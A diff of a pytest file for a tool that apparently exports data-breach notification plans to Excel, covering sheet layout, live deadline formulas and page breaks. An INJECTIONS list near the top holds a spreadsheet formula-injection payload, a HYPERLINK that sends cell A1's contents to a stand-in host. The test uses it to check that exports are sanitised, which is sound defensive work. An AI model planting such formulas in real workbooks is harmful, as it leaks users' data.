@@ -20,6 +20,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from notifyplanner.cli import SAMPLE_INCIDENT, main
 from notifyplanner.engine import plan as make_plan
+from notifyplanner.export.workbook.cells import keep_with_next
+from notifyplanner.export.workbook.obligations import LOOKS
 from notifyplanner.export.xlsx import (
     FORMULA_PREFIXES,
     WEEKLY_AFTER_DAYS,
@@ -33,7 +35,7 @@ from notifyplanner.report import DISCLAIMER, STATUS_WORDS
 from tests.jurisdictions.statute import plan_for
 
 MADE_ON = date(2026, 10, 20)
-SHEETS = ["Summary", "Obligations", "Timeline", "Residents", "Credit monitoring", "Sources"]
+SHEETS = ["Summary", "Obligations", "Details", "Timeline", "Residents", "Credit monitoring", "Sources"]
 INJECTIONS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
     "+1",
@@ -99,43 +101,70 @@ def test_same_plan_same_bytes(sample_plan: Plan, rulebook: Rulebook):
     assert props.modified == datetime(2026, 10, 20)
 
 
-@pytest.mark.parametrize("sheet", ["Obligations", "Residents", "Credit monitoring", "Sources"])
+@pytest.mark.parametrize("sheet", ["Obligations", "Details", "Residents", "Credit monitoring", "Sources"])
 def test_header_bold_and_frozen(sample_book: Workbook, sheet: str):
     ws = sample_book[sheet]
     assert all(cell.font.bold for cell in ws[1] if cell.value is not None)
     assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2")
 
 
-def test_obligations_has_every_field_and_team_columns(sample_book: Workbook, sample_plan: Plan):
-    ws = sample_book["Obligations"]
-    names = headers(ws)
-    for expected in (
+def test_obligations_is_a_checklist_and_details_hold_the_rest(sample_book: Workbook, sample_plan: Plan):
+    """Issue 12 item 5: who, when, send-by, status, sent on, owner on the checklist; reason,
+    computation, citation and notes on the Details sheet, keyed by the same # and id."""
+    ws, details = sample_book["Obligations"], sample_book["Details"]
+    assert list(headers(ws)) == [
+        "#",
         "Where",
         "Recipient",
         "Office",
         "Status",
-        "Reason",
         "Deadline",
-        "Deadline kind",
         "Send by (practical)",
-        "Computation",
-        "Citation",
-        "Rule in force since",
-        "Notes",
+        "Days left",
+        "Urgency (live)",
         "Sent on",
         "Owner",
-        "Jurisdiction",
+    ]
+    for expected in (
+        "#",
+        "Where",
         "Obligation id",
+        "Recipient",
+        "Status",
+        "Reason",
+        "Computation",
+        "Citation",
+        "Notes",
+        "Jurisdiction",
+        "Deadline kind",
+        "Rule in force since",
         "What the notice must contain",
         "How to file",
         "Rule enacted by",
         "Citation link",
     ):
-        assert expected in names, expected
+        assert expected in headers(details), expected
     last = len(sample_plan.obligations) + 1
     assert all(v is None for v in column(ws, "Sent on", last=last))
     assert all(v is None for v in column(ws, "Owner", last=last))
-    assert sorted(column(ws, "Obligation id", last=last)) == sorted(o.key for o in sample_plan.obligations)
+    assert column(ws, "#", last=last) == column(details, "#", last=last) == list(range(1, last))
+    assert column(ws, "Where", last=last) == column(details, "Where", last=last)
+    assert column(ws, "Recipient", last=last) == column(details, "Recipient", last=last)
+    assert sorted(column(details, "Obligation id", last=last)) == sorted(
+        o.key for o in sample_plan.obligations
+    )
+    by_key = {o.key: o for o in sample_plan.obligations}
+    keys, reasons = column(details, "Obligation id", last=last), column(details, "Reason", last=last)
+    for key, reason in zip(keys, reasons, strict=True):
+        assert reason == by_key[key].reason
+
+
+def test_checklist_rows_are_one_or_two_lines(sample_book: Workbook, sample_plan: Plan):
+    """Rows of normal height: the checklist once ran 80-258 points a row, five to a page."""
+    ws = sample_book["Obligations"]
+    heights = [ws.row_dimensions[r].height for r in range(2, len(sample_plan.obligations) + 2)]
+    assert max(heights) <= 3 * 12.75 + 3
+    assert sum(h <= 2 * 12.75 + 3 for h in heights) >= 0.9 * len(heights)
 
 
 def test_obligations_table_covers_every_row(sample_book: Workbook, sample_plan: Plan):
@@ -149,7 +178,7 @@ def test_obligations_table_covers_every_row(sample_book: Workbook, sample_plan: 
 
 def test_table_names_are_valid_excel_names(sample_book: Workbook):
     names = [name for ws in sample_book.worksheets for name in ws.tables]
-    assert set(names) == {"Obligations", "Residents", "CreditMonitoring", "Sources"}
+    assert set(names) == {"Obligations", "Details", "Residents", "CreditMonitoring", "Sources"}
     for name in names:
         assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]{0,254}", name)
         assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[RrCc]\d*", name)  # never a cell reference
@@ -159,40 +188,40 @@ def test_dates_are_real_excel_dates(sample_book: Workbook, sample_plan: Plan):
     ws = sample_book["Obligations"]
     col = headers(ws)["Deadline"]
     by_key = {o.key: o for o in sample_plan.obligations}
-    keys = column(ws, "Obligation id", last=len(sample_plan.obligations) + 1)
+    keys = column(sample_book["Details"], "Obligation id", last=len(sample_plan.obligations) + 1)
     seen = 0
     for row, key in enumerate(keys, start=2):
         cell = ws.cell(row=row, column=col)
         expected = by_key[key].deadline
         if expected is None:
-            assert cell.value is None
+            assert isinstance(cell.value, str)  # words: no fixed date, with another notice...
             continue
         seen += 1
-        assert cell.is_date and cell.number_format == "yyyy-mm-dd"
+        assert cell.is_date and cell.number_format.startswith("yyyy-mm-dd")
         assert cell.value == datetime.combine(expected, datetime.min.time())
+        assert cell.number_format.endswith('" *"') == by_key[key].conservative
     assert seen >= 10
     sent = ws.cell(row=2, column=headers(ws)["Sent on"])
     assert sent.number_format == "yyyy-mm-dd"
 
 
 def test_no_fixed_deadline_is_words_not_a_number(sample_book: Workbook, sample_plan: Plan):
-    ws = sample_book["Obligations"]
-    kinds = column(ws, "Deadline kind", last=len(sample_plan.obligations) + 1)
+    last = len(sample_plan.obligations) + 1
+    kinds = column(sample_book["Details"], "Deadline kind", last=last)
     undated = [o for o in sample_plan.obligations if o.deadline_kind is DeadlineKind.NO_FIXED_DEADLINE]
     assert undated and kinds.count("no fixed date") == len(undated)
+    assert column(sample_book["Obligations"], "Deadline", last=last).count("no fixed date") == len(undated)
 
 
 def test_urgency_colors_are_formulas_against_today(sample_book: Workbook):
     ws = sample_book["Obligations"]
     rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
-    formulas = [rule.formula[0] for rule in rules]
-    assert all(rule.type == "expression" for rule in rules)
-    assert len(rules) == 6
-    overdue = next(f for f in formulas if "<TODAY()" in f)
-    assert '="required"' in overdue and "LEN($I2)=0" in overdue  # only required, only if not sent
-    assert any("-TODAY()<=7" in f for f in formulas)
-    assert formulas[0] == "LEN($I2)>0"  # sent wins over every date rule
-    assert rules[0].stopIfTrue
+    assert all(rule.type == "expression" and rule.stopIfTrue for rule in rules)
+    assert len(rules) == len(LOOKS)
+    urgency = ws.cell(row=2, column=headers(ws)["Urgency (live)"])
+    assert urgency.data_type == "f" and "TODAY()" in urgency.value and "-TODAY()<=7" in urgency.value
+    letter = urgency.column_letter
+    assert all(f"${letter}2" in rule.formula[0] for rule in rules)  # colours follow the live column
     # No color baked in: data cells carry no fill except the two columns the team fills in.
     team = {headers(ws)["Sent on"], headers(ws)["Owner"]}
     for cells in ws.iter_rows(min_row=2, max_row=ws.max_row):
@@ -208,11 +237,12 @@ def test_days_left_is_a_live_formula(sample_book: Workbook):
 
 
 def test_detail_columns_grouped_not_lost(sample_book: Workbook):
-    ws = sample_book["Obligations"]
+    ws = sample_book["Details"]
     letter = ws.cell(row=1, column=headers(ws)["What the notice must contain"]).column_letter
     dim = ws.column_dimensions[letter]
     assert dim.outlineLevel == 1 and dim.hidden
     assert not ws.column_dimensions["A"].hidden
+    assert not ws.column_dimensions[ws.cell(row=1, column=headers(ws)["Reason"]).column_letter].hidden
 
 
 # --------------------------------------------------------------------------- print
@@ -257,7 +287,8 @@ def test_summary_facts_counts_rules_and_disclaimer(sample_book: Workbook, sample
             sample_plan.by_status(status)
         )
     overdue = ws.cell(row=row_of(ws, "overdue today (live)"), column=2)
-    assert overdue.data_type == "f" and "TODAY()" in overdue.value
+    assert overdue.data_type == "f" and overdue.value.startswith("=COUNTIF('Obligations'!$I$2:")
+    assert ws.cell(row=row_of(ws, "due within 7 days (live)"), column=2).value.endswith(',"due soon")')
     start = row_of(ws, "Jurisdiction")
     listed = {ws.cell(row=r, column=1).value.split(" – ")[0]: r for r in range(start + 1, ws.max_row + 1)}
     for version in sample_plan.versions:
@@ -337,7 +368,7 @@ def test_sources_say_how_each_citation_was_checked_and_where_it_was_read(
 
 def test_timeline_daily_grid_with_today_formula(sample_book: Workbook, sample_plan: Plan):
     ws = sample_book["Timeline"]
-    assert "One column per day" in ws["A1"].value
+    assert "◆ deadline" in ws["A1"].value and "One column per day" in ws["A2"].value
     first_day = ws["D3"]
     assert first_day.is_date and first_day.value.date() == sample_plan.incident.discovered
     rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
@@ -359,7 +390,7 @@ def test_timeline_goes_weekly_for_a_long_span(sample_plan: Plan, rulebook: Ruleb
     ob = next(o for o in sample_plan.obligations if o.deadline and o.status is Status.REQUIRED)
     long_plan = replace(sample_plan, obligations=(*sample_plan.obligations, replace(ob, deadline=far)))
     ws = reopen(long_plan, rulebook)["Timeline"]
-    assert "One column per week" in ws["A1"].value and str(WEEKLY_AFTER_DAYS) in ws["A1"].value
+    assert "One column per week" in ws["A2"].value and str(WEEKLY_AFTER_DAYS) in ws["A2"].value
     assert (ws["E3"].value - ws["D3"].value).days == 7
     rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
     assert all("TODAY()" in rule.formula[0] for rule in rules)
@@ -513,3 +544,57 @@ def test_summary_lists_the_decisions_and_answers(rulebook: Rulebook):
     assert "No-risk-of-harm determination (FL)" in ws.cell(row_of(ws, "Decisions"), 2).value
     assert "third parties: no" in ws.cell(row_of(ws, "Entity and circumstances"), 2).value
     assert ws.cell(row_of(ws, "People affected"), 2).value == "at least 10 (some counts unknown)"
+
+
+def test_cli_carries_the_due_soon_window_into_the_workbook(tmp_path: Path):
+    out = tmp_path / "plan.xlsx"
+    args = ["plan", str(SAMPLE_INCIDENT), "--today", "2026-10-20", "--xlsx", str(out)]
+    assert main([*args, "--due-soon-days", "3"]) == 0
+    ws = load_workbook(out)["Obligations"]
+    assert "-TODAY()<=3," in ws.cell(row=2, column=headers(ws)["Urgency (live)"]).value
+
+
+@pytest.mark.parametrize(("value", "words"), [("-1", "0 to 365 days"), ("soon", "whole number of days")])
+def test_cli_refuses_a_window_that_is_not_days(tmp_path: Path, capsys, value: str, words: str):
+    out = tmp_path / "plan.xlsx"
+    with pytest.raises(SystemExit) as stop:
+        main(["plan", str(SAMPLE_INCIDENT), "--xlsx", str(out), "--due-soon-days", value])
+    err = capsys.readouterr().err
+    assert stop.value.code == 2 and words in err and "Traceback" not in err
+    assert not out.exists()
+
+
+def test_summary_heading_never_ends_a_printed_page(rulebook: Rulebook):
+    """Issue 12 item 5: a heading left alone at the foot of page 1. Every manual break sits
+    just before a section heading, and the sample's Summary gets the breaks it needs."""
+    plan = make_plan(read_incident(SAMPLE_INCIDENT), rulebook)
+    ws = reopen(plan, rulebook)["Summary"]
+    breaks = [b.id + 1 for b in ws.row_breaks.brk]
+    assert breaks, "the sample's Summary runs past one page"
+    for row in breaks:
+        assert ws.cell(row=row, column=1).font.size == 12  # a section heading starts the page
+
+
+def test_keep_with_next_moves_a_heading_that_would_end_a_page():
+    def sheet() -> Worksheet:
+        ws = Workbook().active
+        for r in range(1, 80):
+            ws.row_dimensions[r].height = 15
+        return ws
+
+    # A page holds (8.5 - 1.1) in * 72 = 532.8 pt: 35 rows of 15 pt at full scale.
+    near_the_foot = sheet()
+    assert keep_with_next(near_the_foot, [(34, 5)], 79, [10]) == [34]
+    assert [b.id for b in near_the_foot.row_breaks.brk] == [33]
+    assert keep_with_next(sheet(), [(5, 5)], 79, [10]) == []  # room enough: no break
+    # Past the printer's own break (row 36 starts page 2), the count starts again.
+    assert keep_with_next(sheet(), [(40, 5)], 79, [10]) == []
+
+
+def test_a_register_case_workbook_names_its_log_head(sample_plan: Plan, rulebook: Rulebook):
+    head = "0123456789abcdef" * 4
+    book = load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON, log_head=head)))
+    assert (book["Summary"]["A4"].value, book["Summary"]["B4"].value) == ("Register log head", head)
+    assert all(ws.oddFooter.right.text.endswith(f"· log {head[:16]}") for ws in book.worksheets)
+    plain = load_workbook(io.BytesIO(plan_to_xlsx(sample_plan, rulebook, made_on=MADE_ON)))
+    assert plain["Summary"]["A4"].value is None and "log" not in plain["Summary"].oddFooter.right.text
